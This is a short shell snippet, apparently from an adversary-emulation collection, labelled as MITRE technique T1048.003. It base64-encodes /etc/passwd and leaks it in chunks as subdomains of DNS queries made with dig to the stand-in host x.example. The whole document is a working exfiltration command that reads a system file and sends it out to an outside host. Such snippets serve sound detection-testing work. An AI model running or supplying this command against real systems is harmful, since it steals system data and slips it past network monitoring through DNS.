# title: A file goes out in questions of dig
# technique: T1048.003
# needs: dig

base64 -w50 /etc/passwd | tr -d '=+/' | head -12 | while read -r part; do dig +short +time=1 +tries=1 "$part.x.example" >/dev/null; done
